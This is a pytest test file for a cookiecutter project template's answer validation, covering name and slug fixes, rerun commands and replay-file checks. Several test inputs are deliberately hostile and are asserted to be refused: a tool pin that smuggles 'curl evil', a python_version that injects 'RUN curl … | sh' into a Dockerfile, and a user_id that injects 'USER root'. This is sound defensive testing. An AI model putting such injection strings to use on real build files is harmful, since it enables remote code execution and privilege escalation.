@pytest.mark.parametrize("slug", ["Json", "Type", "Dockerfile"])
def test_a_slug_offered_makes_a_package_name_that_is_not_refused(slug):
    (problem,) = answer_checks.answer_problems(
        {**DEFAULTS, "project_slug": slug, "package_name": slug.replace("-", "_")}
    )
    assert problem.field == "project_slug"
    assert answer_checks.acceptable_package(problem.fix.replace("-", "_")), problem.fix


def test_a_package_name_made_from_the_slug_gets_its_fix_in_the_command(tmp_path, capfd):
    _, words, after = asked_again(tmp_path, capfd, project_slug="class")

    assert words == ["project_slug=class", "package_name=class_service"]
    assert after[0] == NO_INPUT


FIXES = [
    ("project_slug", "My_Service", "my-service"),
    ("project_slug", "kube-system", "app-kube-system"),
    ("project_slug", "con", "con-service"),
    ("package_name", "My-Pkg", "my_pkg"),
    ("package_name", "class", "class_service"),
    ("package_name", "json", "json_service"),
    ("author_email", " ada@example.org", "ada@example.org"),
    ("author_email", "mailto:ada@example.org", "ada@example.org"),
    ("author_email", "Ada <ada@example.org>", "ada@example.org"),
    ("author_email", "ada@example.org; bob@example.org", "ada@example.org"),
    ("author_email", "mailto: ada@example.org", "ada@example.org"),
    ("author_email", " mailto:ada@example.org", "ada@example.org"),
    ("author_name", "Doe, Jane", "Jane Doe"),
    ("author_name", "Jane <Doe", "Jane Doe"),
    ("author_name", "Jane Doe <ada@example.org>, PhD", "Jane Doe PhD"),
    ("author_name", "\u200b", ""),
    ("package_name", "Über", "uber"),
]


@pytest.mark.parametrize(("field", "given", "fix"), FIXES)
def test_a_refusal_offers_the_fix_it_makes_of_the_answer(field, given, fix):
    (problem,) = answer_checks.answer_problems({**DEFAULTS, field: given})
    assert (problem.field, problem.fix) == (field, fix)


@pytest.mark.parametrize(("field", "given", "fix"), [case for case in FIXES if case[2]])
def test_the_error_line_shows_the_fix_that_the_command_carries(field, given, fix):
    (problem,) = answer_checks.answer_problems({**DEFAULTS, field: given})
    assert repr(fix) in problem.message or f"{field}={fix}" in problem.message


@pytest.mark.parametrize(
    ("field", "given"),
    [
        ("project_name", "\u200b"),
        ("description", "{{ x }}"),
        ("package_name", "9"),
        ("author_email", "ada"),
        ("author_email", "<>"),
        ("author_name", "<>"),
        ("author_name", "\u200b,"),
    ],
)
def test_a_refusal_offers_no_fix_where_only_the_user_can_say(field, given):
    (problem,) = answer_checks.answer_problems({**DEFAULTS, field: given})
    assert (problem.field, problem.fix) == (field, None)


def test_the_name_in_an_address_becomes_the_author_name_where_none_was_given(tmp_path, capfd):
    _, words, _ = asked_again(tmp_path, capfd, author_email='"Ada L" <ada@example.org>')
    assert sorted(words) == ["author_email=ada@example.org", "author_name=Ada L"]


def test_the_command_that_asks_again_gives_a_fix_the_config_file_would_override(
    tmp_path, capfd, monkeypatch
):
    # The fix is the template's default, which the config file's default_context replaces
    config = config_with(tmp_path, author_email="mailto:jane@example.com", author_name="Bob")
    monkeypatch.setenv("COOKIECUTTER_CONFIG", str(config))
    _, words, after = asked_again(tmp_path / "out", capfd, author_name="Jane Doe")

    assert sorted(words) == ["author_email=jane@example.com", "author_name=Jane Doe"]
    assert after[0] == NO_INPUT


def test_where_a_refused_answer_has_no_fix_no_input_is_not_offered(tmp_path, capfd):
    _, words, after = asked_again(tmp_path, capfd, project_slug="My_Service", description="{{ x }}")

    assert "project_slug=my-service" in words
    assert NO_INPUT not in after


def test_the_command_that_asks_again_quotes_the_templates_address():
    answers = {"project_name": "Hello Service", "_template": "/templates/my template"}
    assert shlex.split(answer_checks.rerun_command(answers)) == [
        "cookiecutter",
        "/templates/my template",
    ]


def test_the_command_that_asks_again_reads_a_yes_typed_as_text_as_the_default():
    answers = {"project_name": "Hello Service", "use_pre_commit": "yes", "_template": "gh:a/b"}
    assert answer_checks.rerun_command(answers) == "cookiecutter gh:a/b"


def test_no_command_that_asks_again_is_offered_under_cruft_which_asks_nothing():
    answers = {"project_name": "Hello Service", "_template": "gh:a/b", "_commit": "0" * 40}
    assert answer_checks.rerun_command(answers) is None


def test_refused_author_fields_are_named_in_the_order_they_are_asked(tmp_path, capfd):
    errors = refused_bake(tmp_path, capfd, author_name="Doe, Jane", author_email="a b@example.com")
    assert [error.split()[1] for error in errors] == ["author_name", "author_email"], errors


def test_a_refused_private_value_is_named_after_the_questions(tmp_path, capfd):
    errors = refused_bake(tmp_path, capfd, project_slug="Bad Slug", _tools={"ruff": "x"})
    assert [error.split()[1] for error in errors][0] == "project_slug", errors


def test_a_refused_answer_does_not_even_create_the_output_folder(tmp_path, capfd):
    with pytest.raises(FailedHookException):
        bake_into(tmp_path / "not" / "yet", package_name="pluggy")
    assert capfd.readouterr().err.startswith("ERROR: package_name 'pluggy'")
    assert list(tmp_path.iterdir()) == []


def test_an_empty_slug_from_an_unsluggable_name_is_refused_with_the_fix(tmp_path, capfd):
    errors = refused_bake(tmp_path, capfd, project_name="😀😀")
    assert errors == [
        "ERROR: project_slug is empty: the project name has no letters or digits to make it "
        "from. Give one, e.g. project_slug=hello-service."
    ]


@pytest.mark.parametrize("name", [" ", "\u200b", "{{ 7*7 }}"], ids=["blank", "invisible", "jinja"])
def test_a_refused_project_name_is_refused_alone_not_again_in_the_slug_made_from_it(
    name, tmp_path, capfd
):
    errors = refused_bake(tmp_path, capfd, project_name=name)
    assert len(errors) == 1 and errors[0].startswith("ERROR: project_name "), errors


def test_an_empty_slug_given_as_such_is_refused_without_blaming_the_name(tmp_path, capfd):
    errors = refused_bake(tmp_path, capfd, project_name="Hello", project_slug="")
    assert errors == ["ERROR: project_slug is empty. Give one, e.g. project_slug=hello-service."]


@pytest.mark.parametrize(
    "name, fix",
    [("2048 Game", "game-2048"), ("3D Printer API", "printer-api-3d"), ("42", "app-42")],
)
def test_a_slug_made_from_a_digit_first_name_is_refused_with_a_valid_one_to_give(
    name, fix, tmp_path, capfd
):
    errors = refused_bake(tmp_path, capfd, project_name=name)
    assert len(errors) == 1, errors
    assert f"(the slug of project_name {name!r})" in errors[0]
    assert errors[0].endswith(f"e.g. project_slug={fix}.")
    assert bake_into(tmp_path, project_name=name, project_slug=fix).name == fix


def test_a_jinja_slug_is_refused_once_not_again_in_the_package_name_made_from_it(tmp_path, capfd):
    errors = refused_bake(tmp_path, capfd, project_slug="{{ 7*7 }}")
    assert len(errors) == 1 and errors[0].startswith("ERROR: project_slug '{{ 7*7 }}' "), errors


def test_jinja_markers_that_would_not_survive_an_update_are_refused(tmp_path, capfd):
    # cookiecutter renders --no-input answers once: this one reaches the checks as "{{ x }}"
    errors = refused_bake(tmp_path, capfd, description="{{ '{{' }} x }}")
    assert len(errors) == 1 and errors[0].startswith("ERROR: description "), errors
    assert "update" in errors[0]


@pytest.mark.parametrize("marker", ["{{", "{%", "{#"])
def test_every_jinja_opening_marker_is_refused_in_free_text(marker, tmp_path, capfd):
    errors = refused_bake(tmp_path, capfd, description=f"costs {marker} little")
    assert len(errors) == 1 and errors[0].startswith("ERROR: description "), errors
    assert "holds '{{', '{%' or '{#'" in errors[0], errors


@pytest.mark.parametrize("description", ["{{ x }}", "x" * 600], ids=["jinja", "too-long"])
def test_a_refused_description_does_not_hide_a_refused_slug(description, tmp_path, capfd):
    errors = refused_bake(tmp_path, capfd, description=description, project_slug="Bad Slug")
    # in the order of the questions: the slug is asked before the description
    assert [error.split()[1] for error in errors] == ["project_slug", "description"], errors


def test_tools_pins_must_be_versions(tmp_path, capfd):
    errors = refused_bake(tmp_path, capfd, _tools={"ruff": "0.17.6; curl evil"})
    assert errors and errors[0].startswith("ERROR: _tools.ruff "), errors


@pytest.mark.parametrize("docker_level", LEVELS)
def test_rebaking_over_a_project_gives_a_fresh_bake_next_to_the_users_files(docker_level, tmp_path):
    fresh = bake_into(tmp_path / "fresh", docker_level=docker_level)
    project = bake_into(tmp_path / "mine", docker_level=docker_level)
    package = next(p.parent for p in project.rglob("main.py"))
    (package / "billing.py").write_text("RATE = 1\n")
    (project / "NOTES.md").write_text("mine\n")
    for _ in range(2):  # twice: the second re-bake used to crash
        bake_into(tmp_path / "mine", overwrite_if_exists=True, docker_level=docker_level)

    mine = files(project)
    own = {str((package / "billing.py").relative_to(project)), "NOTES.md"}
    assert own <= set(mine)
    assert {k: v for k, v in mine.items() if k not in own} == files(fresh)


def files(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in root.rglob("*") if p.is_file()}


@pytest.mark.parametrize("docker_level", LEVELS)
def test_without_hooks_the_bake_is_the_same_project(docker_level, tmp_path):
    fresh = bake_into(tmp_path / "fresh", docker_level=docker_level)
    without = bake_into(tmp_path / "without", accept_hooks=False, docker_level=docker_level)
    assert files(without) == files(fresh)


@pytest.mark.parametrize("docker_level", LEVELS)
def test_rebaking_with_skip_if_file_exists_keeps_every_file_the_user_changed(
    docker_level, tmp_path
):
    project = bake_into(tmp_path, docker_level=docker_level)
    changed = {path: path.read_bytes() + b"# mine\n" for path in project.rglob("*.py")}
    for path, content in changed.items():
        path.write_bytes(content)
    bake_into(
        tmp_path, overwrite_if_exists=True, skip_if_file_exists=True, docker_level=docker_level
    )
    assert {path: path.read_bytes() for path in changed} == changed


@pytest.mark.parametrize("docker_level", LEVELS)
def test_a_bake_on_windows_writes_lf_line_endings(docker_level, tmp_path, monkeypatch):
    # Windows writes text with CRLF unless told otherwise: emulated with the pure-Python io
    # module, which reads os.linesep, in place of the open() cookiecutter writes files with
    import _pyio

    import cookiecutter.generate

    monkeypatch.setattr(os, "linesep", "\r\n")
    monkeypatch.setattr(cookiecutter.generate, "open", _pyio.open, raising=False)
    project = bake_into(tmp_path, docker_level=docker_level)
    written = [path for path in project.rglob("*") if path.is_file()]
    assert written and [p.name for p in written if b"\r\n" in p.read_bytes()] == []


def test_hostile_answers_replay_from_the_answers_file_to_the_same_project(tmp_path):
    answers = {
        "project_name": 'Quote " and \\ and } and %} #}',
        "description": "Dollar $HOME, backtick `x`, emoji 😀, pipe | and <tag>",
        "author_name": "O'Brien \\ Ünïcode",
        "docker_level": "final-result",
    }
    first = bake_into(tmp_path / "first", project_slug="replayed", **answers)
    recorded = json.loads((first / ".cookiecutter.json").read_text(encoding="utf-8"))
    second = bake_into(tmp_path / "second", **recorded)
    for path in first.rglob("*"):
        if path.is_file():
            assert path.read_bytes() == (second / path.relative_to(first)).read_bytes(), path


@pytest.mark.docker
def test_oci_labels_reach_the_built_image_exactly(tmp_path):
    found = engine()
    if not found.available:
        pytest.skip(found.reason)
    answers = {
        "description": 'Say "hi" \\ to $HOME and ${PATH} 😀 in C:\\"My Files"\\',
        "author_name": "O'Brien $X \\",
    }
    project = bake_into(tmp_path, docker_level=LABELLED, **answers)
    labels = [
        line
        for line in (project / "Dockerfile").read_text(encoding="utf-8").splitlines()
        if line.lstrip().startswith(("LABEL", "org.opencontainers", "ARG"))
    ]
    context = tmp_path / "labels-only"
    context.mkdir()
    (context / "Dockerfile").write_text("FROM scratch\n" + "\n".join(labels) + "\n")
    tag = f"pydocker-labels-{tmp_path.name.lower()}"
    run(["docker", "build", "-q", "-t", tag, str(context)], cwd=context, env=tool_env())
    try:
        inspected = run(
            ["docker", "image", "inspect", "--format", "{{json .Config.Labels}}", tag],
            cwd=context,
            env=tool_env(),
        )
        image_labels = json.loads(inspected.stdout)
    finally:
        run(["docker", "image", "rm", "-f", tag], cwd=context, check=False, env=tool_env())
    assert image_labels["org.opencontainers.image.description"] == answers["description"]
    assert image_labels["org.opencontainers.image.authors"] == "O'Brien $X \\ <jane@example.com>"


# --- A replay file gives every value, private data included, unchecked by cookiecutter -----


def test_a_replay_file_with_the_defaults_bakes(tmp_path):
    assert (bake_replay(tmp_path) / "Dockerfile").is_file()


EVIL_LEVELS = json.loads(json.dumps(COOKIECUTTER["_levels"]))
EVIL_LEVELS[LEVELS[0]]["user_id"] = "10001\nUSER root"
FLOAT_LEVELS = json.loads(json.dumps(COOKIECUTTER["_levels"]))
for facts in FLOAT_LEVELS.values():
    facts["number"] = float(facts["number"])  # equal in Python, "1.0" in a file
REPLAYED = {
    "python-not-offered": ({"python_version": "3.99"}, "python_version '3.99'"),
    "python-with-instructions": (
        {"python_version": "3.13 AS builder\nRUN curl -s http://example.com/x | sh"},
        "python_version '3.13 AS builder",
    ),
    "level-not-offered": ({"docker_level": "step-9"}, "docker_level 'step-9'"),
    "pre-commit-neither": ({"use_pre_commit": "maybe"}, "use_pre_commit 'maybe' is neither"),
    "pre-commit-as-null": ({"use_pre_commit": None}, "use_pre_commit None is neither"),
    "levels-rewritten": ({"_levels": EVIL_LEVELS}, "_levels is not this template's"),
    "levels-as-floats": ({"_levels": FLOAT_LEVELS}, "_levels is not this template's"),
    "another-jinja-syntax": (
        {"_jinja2_env_vars": {"comment_start_string": "{{", "comment_end_string": "}}"}},
        "_jinja2_env_vars sets comment_start_string to '{{'",
    ),
    "an-extra-extension": (
        {"_extensions": [*COOKIECUTTER["_extensions"], "jinja2.ext.do"]},
        "_extensions ['answers_extension.AnswersExtension', 'jinja2.ext.do']",
    ),
    "windows-line-endings": ({"_new_lines": "\r\n"}, "_new_lines '\\r\\n' is not"),
    "not-a-line-ending": ({"_new_lines": "X"}, "_new_lines 'X' is not"),
    "line-endings-as-null": ({"_new_lines": None}, "_new_lines None is not"),
    "copied-without-render": ({"_copy_without_render": ["*"]}, "_copy_without_render: not"),
    "slug-as-a-number": ({"project_slug": 5}, "project_slug must be text, not the number 5."),
    "tools-as-text": ({"_tools": "x"}, "_tools must be a table"),
    "actions-as-null": ({"_actions": None}, "_actions must be a table"),
    "a-tool-missing": (
        {"_tools": {k: v for k, v in COOKIECUTTER["_tools"].items() if k != "poetry"}},
        "_tools has no poetry",
    ),
    "action-with-a-step": (
        {"_actions": {**COOKIECUTTER["_actions"], "checkout": "actions/checkout@v4\n  - run: x"}},
        "_actions.checkout 'actions/checkout@v4",
    ),
}


@pytest.mark.parametrize("changes, bad", REPLAYED.values(), ids=REPLAYED.keys())
def test_a_replay_file_cannot_put_values_the_template_does_not_offer_into_the_project(
    changes, bad, tmp_path, capfd
):
    with pytest.raises(FailedHookException):
        bake_replay(tmp_path, **changes)

    errors = [line for line in capfd.readouterr().err.splitlines() if line.startswith("ERROR: ")]
    assert any(line.startswith(f"ERROR: {bad}") for line in errors), errors
    assert list((tmp_path / "out").iterdir()) == []


# Cookiecutter 2.2 to 2.6 pass a yes/no answer from the command line or a config file on as
# the text typed (2.7 makes it true or false), and so does a replay file
@pytest.mark.parametrize(
    "answer, hooks", [("no", False), ("OFF", False), ("0", False), ("y", True), ("True", True)]
)
def test_a_yes_no_answer_given_as_cookiecutters_words_for_one_is_read_as_one(
    answer, hooks, tmp_path
):
    (docker_level, *_) = [name for name in LEVELS if not LEVEL_FACTS[name]["needs_pre_commit"]]
    project = bake_replay(tmp_path, docker_level=docker_level, use_pre_commit=answer)
    assert (project / ".pre-commit-config.yaml").exists() == hooks


# --- Small things an answer can hold ----------------------------------------------------


@pytest.mark.parametrize("name", ["Project #", "Hello ##", "C# ###", "#"])
def test_a_name_ending_in_hashes_keeps_them_in_the_readme_heading(name, tmp_path):
    project = bake_into(tmp_path, project_name=name, project_slug="hashes")
    assert markdown_blocks(project / "README.md")[0] == name


def test_without_an_author_name_the_authors_label_is_the_address(tmp_path):
    project = bake_into(tmp_path, author_name="", docker_level=LABELLED)
    assert oci_labels(project / "Dockerfile")["org.opencontainers.image.authors"] == (
        "jane@example.com"
    )


def test_a_package_name_made_from_the_slug_says_so_when_refused(tmp_path, capfd):
    (error,) = refused_bake(tmp_path, capfd, project_name="Import")
    assert error.startswith("ERROR: package_name 'import' (the name made from project_slug ")
    assert "give another package_name" in error


# --- What cookiecutter's command line gives, as the template reads it ---------------------


def cookiecutter_cli(*words, cwd) -> tuple[list[str], list[str]]:
    """cookiecutter's own script run with `words`, expecting a refusal: its ERROR: lines, and
    the words of the command it prints that asks again."""
    refused = run([BIN / "cookiecutter", *words], cwd=cwd, check=False)
    assert refused.returncode != 0, refused.stdout
    lines = refused.stderr.splitlines()
    (at,) = [i for i, line in enumerate(lines) if line in (ASKED_AGAIN, ASKED_AGAIN_FIXED)]
    return [line for line in lines if line.startswith("ERROR: ")], shlex.split(lines[at + 1])


def test_the_command_that_asks_again_keeps_where_the_config_and_the_project_are(tmp_path):
    config = config_with(tmp_path, description="From the config file")
    _, words = cookiecutter_cli(
        "-f", "--no-input", "--config-file", config, "-o", "out", ROOT, "project_slug=Bad_Slug",
        cwd=tmp_path,
    )  # fmt: skip
    assert words == [
        "cookiecutter", "-f", "--config-file", str(config), "-o", "out", str(ROOT),
        "project_slug=bad-slug",
    ]  # fmt: skip
    assert not (tmp_path / "out").exists()


def test_a_key_that_names_no_question_is_refused_with_the_closest_one(tmp_path):
    errors, words = cookiecutter_cli(
        "--no-input", ROOT, "project-name=Foo", "docker_level=" + LEVELS[-1], cwd=tmp_path
    )
    (error,) = errors
    assert error.startswith("ERROR: project-name is not a question of this template")
    assert "Did you mean project_name?" in error
    assert words[2:] == ["project_name=Foo", f"docker_level={LEVELS[-1]}"]
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "written, read",
    [("1:30", "the number 90"), ("0x10", "the number 16"), ("[Fast, small]", "['Fast', 'small']")],
)
def test_a_config_file_s_unquoted_number_or_list_is_refused_not_turned_into_text(
    written, read, tmp_path, capfd, monkeypatch
):
    config = tmp_path / "config.yaml"
    config.write_text(f"default_context:\n  description: {written}\n")
    monkeypatch.setenv("COOKIECUTTER_CONFIG", str(config))  # as cookiecutter finds it
    (tmp_path / "out").mkdir()
    with pytest.raises(FailedHookException):
        bake_into(tmp_path / "out", config_file=config)
    (error,) = [line for line in capfd.readouterr().err.splitlines() if "ERROR:" in line]
    assert error.startswith(f"ERROR: description must be text, not {read}")
    assert error.endswith(f"{config}{CONFIG_NOTE.format(field='description')}")
    assert list((tmp_path / "out").iterdir()) == []


@pytest.mark.parametrize(
    "text",
    ["plain", "it's $HOME", "A\x1b]0;title\x07\x1b[2J B", "tab\there", "Caf\udcc3\udca9 \udcff"],
)
def test_a_word_of_the_command_that_asks_again_reads_back_as_given_and_prints_as_text(
    text, tmp_path
):
    word = answer_checks.shell_word(text)
    assert word.isprintable()
    run(["bash", "-c", f"printf %s {word} > given"], cwd=tmp_path)
    assert (tmp_path / "given").read_bytes() == text.encode("utf-8", "surrogateescape")
